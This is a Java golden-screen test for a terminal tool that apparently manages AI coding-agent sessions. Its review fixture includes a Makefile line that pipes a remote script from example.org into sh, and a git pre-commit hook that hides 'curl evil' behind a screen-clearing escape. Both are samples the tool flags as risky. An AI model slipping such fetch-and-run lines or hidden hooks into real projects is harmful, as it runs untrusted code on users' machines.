package dev.hqt.tui;

import dev.hqt.doctor.CheckReport;
import dev.hqt.doctor.CheckResult;
import dev.hqt.doctor.DoctorReport;
import dev.hqt.harness.ResumeRefusal;
import dev.hqt.review.Change;
import dev.hqt.review.DiffLine;
import dev.hqt.review.DiffLine.Sign;
import dev.hqt.review.Review;
import dev.hqt.review.Severity;
import dev.hqt.sandbox.SandboxAvailability;
import dev.hqt.session.IdCause;
import dev.hqt.session.KnownConversation;
import dev.hqt.session.PromptOutcome;
import dev.hqt.session.ResumeOutcome;
import dev.hqt.tui.event.Event;
import dev.hqt.tui.term.InputEvent;
import dev.hqt.tui.text.Size;
import dev.hqt.tui.theme.Look;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/** Every screen as it looks, in four sizes. */
class GoldenScreenTest {
    static final List<Size> SIZES = List.of(new Size(80, 24), new Size(120, 40), new Size(40, 10), new Size(20, 5));

    static final SandboxAvailability MISSING = new SandboxAvailability.NotFound("sudo apt install bubblewrap");

    static final Event.DoctorRan REPORT = new Event.DoctorRan(new DoctorReport(List.of(
            new CheckReport("tmux", true, new CheckResult.Ok("3.3a /usr/bin/tmux")),
            new CheckReport(
                    "bubblewrap",
                    false,
                    new CheckResult.Failed(
                            "not found — sandboxed sessions unavailable", "sudo apt install bubblewrap")),
            new CheckReport("Claude Code", false, new CheckResult.Ok("2.1.0 ~/.local/bin/claude")),
            new CheckReport(
                    "Codex", false, new CheckResult.Warning("not on PATH (optional)", "npm install -g @openai/codex")),
            new CheckReport("database", true, new CheckResult.Ok("~/.local/share/hqt/hqt.db")))));

    static final Review REVIEW = new Review(
            Views.NOW,
            List.of(
                    change(
                            "Makefile",
                            Change.Kind.CHANGED,
                            Severity.RUNS_ON_USE,
                            "make runs what it says.",
                            new DiffLine(Sign.PLACE, "@ -1,2 +1,2 @@"),
                            new DiffLine(Sign.CONTEXT, "all:"),
                            new DiffLine(Sign.REMOVED, "\techo all"),
                            new DiffLine(Sign.ADDED, "\tcurl -s https://example.org/install.sh | sh && echo all")),
                    change(
                            ".git/hooks/pre-commit",
                            Change.Kind.ADDED,
                            Severity.RUNS_UNASKED,
                            "git runs what lies here at commits, checkouts, merges and pushes.",
                            new DiffLine(Sign.PLACE, "@ -0,0 +1,2 @@"),
                            new DiffLine(Sign.ADDED, "#!/bin/sh"),
                            new DiffLine(Sign.ADDED, "\u001b[2Jcurl evil")),
                    change(
                            "node_modules/",
                            Change.Kind.MANY,
                            Severity.RUNS_ON_USE,
                            "412 executables in it.",
                            new DiffLine(Sign.NOTE, "such as node_modules/.bin/acorn"))),
            List.of("3 files or directories could not be read."));

    private static Change change(String path, Change.Kind kind, Severity severity, String reason, DiffLine... diff) {
        return new Change(path, kind, severity, reason, List.of(diff));
    }

    static final String OLD_ID = "0b6f4b8e-53a5-4d8e-9d2f-6f3a6f1c2a11";

    private static final List<KnownConversation> KNOWN = List.of(
            new KnownConversation(
                    "7d1c9a52-1f0b-4a3e-8b7a-2f4d9f0a6c01", Views.NOW.minus(Duration.ofDays(9)), IdCause.GIVEN),
            new KnownConversation(OLD_ID, Views.NOW.minus(Duration.ofHours(5)), IdCause.FOLLOWED));

    static final Event FAILED_RESUME = new Event.SessionResumed(
            new ResumeOutcome.Failed(
                    Views.ofAllStates().stream()
                            .filter(view -> view.id() == 5)
                            .findFirst()
                            .orElseThrow(),
                    List.of(),
                    "\n  Please log in first:\n    claude /login\n",
                    ResumeRefusal.NOT_LOGGED_IN,
                    OLD_ID),
            KNOWN,
            false);

    static Event startedFresh(boolean thenAttach) {
        return new Event.SessionResumed(
                new ResumeOutcome.StartedFresh(
                        MainUpdateTest.living(5, "bench"),
                        List.of(),
                        "API Error: Connection refused\n",
                        ResumeRefusal.OTHER,
                        true,
                        OLD_ID),
                KNOWN,
                thenAttach);
    }

    private static Stage reviewing(Size size) {
        return select(Stage.withAllStates(size), 5).press("v");
    }

    /** The screens by name, each as it comes to be. */
    static Map<String, Function<Size, Stage>> screens() {
        Map<String, Function<Size, Stage>> screens = new LinkedHashMap<>();
        screens.put("opening", Stage::opening);
        screens.put(
                "broken",
                size -> Stage.opening(size)
                        .on(new Event.BackendFailed("The database ~/.local/share/hqt/hqt.db was made by a newer hqt"
                                + " (version 7, this one knows 2): install that one.")));
        screens.put("main", Stage::withAllStates);
        screens.put("main-stopped", size -> select(Stage.withAllStates(size), 5).seen(5, "Benchmark failed: 3 of 7\n"));
        screens.put("main-failed", size -> select(Stage.withAllStates(size), 7).on(new Event.ScreenGone(7)));
        screens.put("main-refused", size -> select(Stage.withAllStates(size), 8).on(new Event.ScreenGone(8)));
        screens.put(
                "main-filtered", size -> Stage.withAllStates(size).press("/").type("claude web"));
        screens.put("main-empty-project", size -> select(Stage.withAllStates(size), -3));
        screens.put("no-project", size -> Stage.with(size, List.of(), List.of()));
        screens.put("no-session", size -> Stage.with(size, List.of(), List.of(Views.API)));
        screens.put(
                "no-harness",
                size -> Stage.with(size, List.of(), List.of()).on(new Event.HarnessesFound(Stage.NO_HARNESS)));
        screens.put("new-session", size -> Stage.withAllStates(size).newSession());
        screens.put("new-session-sandboxed", GoldenScreenTest::sandboxed);
        screens.put(
                "new-session-unavailable",
                size -> Stage.withAllStates(size).press("n").probed(MISSING));
        screens.put("new-session-error", size -> {
            Stage stage = Stage.withAllStates(size).newSession().press("Enter");
            long ticket = stage.state().lastTicket();
            return stage.on(
                    new Event.Refused(
                            ticket,
                            0,
                            "The prompt has 140000 bytes and the kernel takes at most 131071 in one argument: put it into a file and name the file."));
        });
        screens.put(
                "new-session-busy",
                size -> Stage.withAllStates(size).newSession().press("Enter"));
        screens.put(
                "policy",
                size -> select(Stage.withAllStates(size), 5).press("c").probed(dev.hqt.session.FakeMachine.BWRAP));
        screens.put("prompt", size -> Stage.withAllStates(size).press("Space"));
        screens.put(
                "prompt-lines",
                size -> Stage.withAllStates(size)
                        .press("Space")
                        .input(new InputEvent.Paste("Fix the test that fails:\n\n\tAuthTest.expiredToken\n\n"
                                + "Then say in one sentence what was wrong, and why nobody saw it: 日本語 👩‍💻.")));
        screens.put("prompt-held", size -> {
            Stage stage = Stage.withAllStates(size).press("Space").type("go on").press("Enter");
            return stage.on(new Event.PromptSent(
                    stage.state().lastTicket(),
                    "go on",
                    new PromptOutcome.Held(
                            Views.ofAllStates().getFirst(),
                            "Session 1 asks something, and what is typed would answer it, so nothing was typed:"
                                    + " answer first ('hqt attach 1'), then send again.")));
        });
        screens.put("rename", size -> Stage.withAllStates(size).press("R"));
        screens.put("confirm", size -> Stage.withAllStates(size).press("x"));
        screens.put("help", size -> Stage.withAllStates(size).press("?"));
        screens.put("doctor", size -> Stage.withAllStates(size).press("d").on(REPORT));
        screens.put("review", size -> reviewing(size).on(new Event.SessionReviewed(5, REVIEW)));
        screens.put(
                "review-clean",
                size -> reviewing(size).on(new Event.SessionReviewed(5, new Review(Views.NOW, List.of(), List.of()))));
        screens.put(
                "review-failed",
                size -> reviewing(size)
                        .on(
                                new Event.SessionNotReviewed(
                                        5,
                                        "No snapshot of the project was kept when the session started, so it is not known what has changed.")));
        screens.put(
                "review-accept",
                size -> reviewing(size).on(new Event.SessionReviewed(5, REVIEW)).press("a"));
        screens.put("resume-fresh", size -> select(Stage.withAllStates(size), 5).on(startedFresh(false)));
        screens.put(
                "resume-failed", size -> select(Stage.withAllStates(size), 5).on(FAILED_RESUME));
        screens.put("toasts", GoldenScreenTest::toasts);
        return screens;
    }

    private static Stage sandboxed(Size size) {
        Stage stage = Stage.withAllStates(size)
                .newSession()
                .press("Tab")
                .type("add-login")
                .press("Tab", "Tab", "Tab", "Space", "Tab", "Tab", "Space")
                .later(java.time.Duration.ofMillis(200));
        long ticket = stage.state().lastTicket();
        long revision = stage.effects(dev.hqt.tui.event.Effect.PlanSession.class)
                .getLast()
                .revision();
        return stage.on(new Event.SessionPlanned(
                ticket, revision, "add-login", "claude --dangerously-skip-permissions --session-id 5f0c2d9e"));
    }

    private static Stage toasts(Size size) {
        Stage stage = Stage.withAllStates(size);
        return stage.on(new Event.SessionChanged(0, Views.ofAllStates().getFirst(), "renamed to fix-auth"))
                .on(
                        new Event.Refused(
                                0,
                                2,
                                "A sandboxed session can't be started: bubblewrap not found. Install it with 'sudo apt install bubblewrap'."));
    }

    /** Goes down the list until this session, or with a minus this project, is chosen. */
    static Stage select(Stage stage, long wanted) {
        stage.press("g");
        for (int steps = 0; steps < 30; steps++) {
            switch (stage.state().main().list().selection()) {
                case dev.hqt.tui.screen.Selection.OfSession session
                when session.id() == wanted -> {
                    return stage;
                }
                case dev.hqt.tui.screen.Selection.OfProject project
                when project.id() == -wanted -> {
                    return stage;
                }
                default -> stage.press("j");
            }
        }
        throw new AssertionError("The list has no " + wanted);
    }

    @TestFactory
    Stream<DynamicTest> everyScreenLooksAsItShould() {
        return screens().entrySet().stream()
                .flatMap(screen -> SIZES.stream().map(size -> {
                    String name = screen.getKey() + "-" + size.columns() + "x" + size.rows();
                    return DynamicTest.dynamicTest(
                            name,
                            () -> GoldenFile.screen(
                                    name, screen.getValue().apply(size).screen()));
                }));
    }

    @Test
    void withoutUnicodeEverySignHasAPlainForm() {
        Stage stage = Stage.withAllStates(new Size(100, 24));
        GoldenFile.screen("main-ascii-100x24", Grids.text(stage.frame(Look.of(true, false))));
    }

    /** A smaller terminal than any screen was made for, in every state: nothing throws. */
    @TestFactory
    Stream<DynamicTest> everyScreenFitsEverySize() {
        return screens().entrySet().stream()
                .map(screen -> DynamicTest.dynamicTest(screen.getKey(), () -> {
                    for (int columns = 1; columns <= 12; columns++) {
                        for (int rows = 1; rows <= 6; rows++) {
                            screen.getValue().apply(new Size(columns, rows)).screen();
                        }
                    }
                }));
    }

    @TestFactory
    Stream<DynamicTest> everyScreenIsResizedToEverySize() {
        return screens().entrySet().stream()
                .map(screen -> DynamicTest.dynamicTest(screen.getKey(), () -> {
                    Stage stage = screen.getValue().apply(new Size(120, 40));
                    for (int columns = 1; columns <= 120; columns += 7) {
                        for (int rows = 1; rows <= 40; rows += 3) {
                            stage.resize(new Size(columns, rows)).screen();
                        }
                    }
                }));
    }
}
